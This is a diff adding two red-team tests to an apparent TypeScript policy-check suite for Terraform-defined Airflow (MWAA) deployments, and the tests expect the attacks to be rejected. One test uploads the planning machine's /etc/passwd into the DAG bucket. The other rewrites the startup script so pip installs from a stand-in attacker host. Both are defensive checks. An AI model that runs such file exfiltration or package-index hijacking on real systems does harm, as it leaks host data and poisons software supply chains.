@@ -1,3 +1,7 @@
+import { S3Object } from "@cdktf/provider-aws/lib/s3-object";
+import { AssetType, TerraformAsset } from "cdktf";
+import { createHash } from "node:crypto";
+import { readFileSync } from "node:fs";
 import { exampleConfig, withAirflowFiles } from "../helpers/config-fixtures";
 import { addressOf, at, attack, failedRules, refTo, stackOf } from "./attack";
 
@@ -58,6 +62,32 @@ describe("red team: uploads that read the planning machine or feed MWAA unjudged
       environment.addOverride("startup_script_s3_object_version", null);
     }, withFiles());
     expect(failedRules(outcome)).toContain("MWAA.ARTIFACTS");
+  });
+
+  it("a file of the planning machine copied in as a cdktf asset and uploaded with its true hash fails", async () => {
+    const outcome = await attack((app) => {
+      const stack = stackOf(app, "example-mwaa");
+      const asset = new TerraformAsset(stack, "passwd-file", { path: "/etc/passwd", type: AssetType.FILE });
+      new S3Object(stack, "passwd", {
+        bucket: refTo(app, "example-mwaa/dag-bucket/bucket", "bucket"),
+        key: "dags/passwd.txt",
+        source: asset.path,
+        sourceHash: createHash("sha256").update(readFileSync("/etc/passwd")).digest("hex"),
+        serverSideEncryption: "aws:kms",
+        kmsKeyId: refTo(app, "example-mwaa/environment-key/key", "arn"),
+      });
+    }, withFiles());
+    expect(failedRules(outcome)).toContain("S3.OBJECTS");
+  });
+
+  it("the startup script's upload replaced by inline content that points pip elsewhere fails", async () => {
+    const outcome = await attack((app) => {
+      const startup = at(app, "example-mwaa/airflow-files/startup");
+      startup.addOverride("source", undefined);
+      startup.addOverride("source_hash", undefined);
+      startup.addOverride("content", "export PIP_INDEX_URL=https://packages.attacker.example/simple\n");
+    }, withFiles());
+    expect(failedRules(outcome)).toContain("S3.OBJECTS");
   });
 
   it("an upload through the deprecated aws_s3_bucket_object, which no rule reads, fails", async () => {
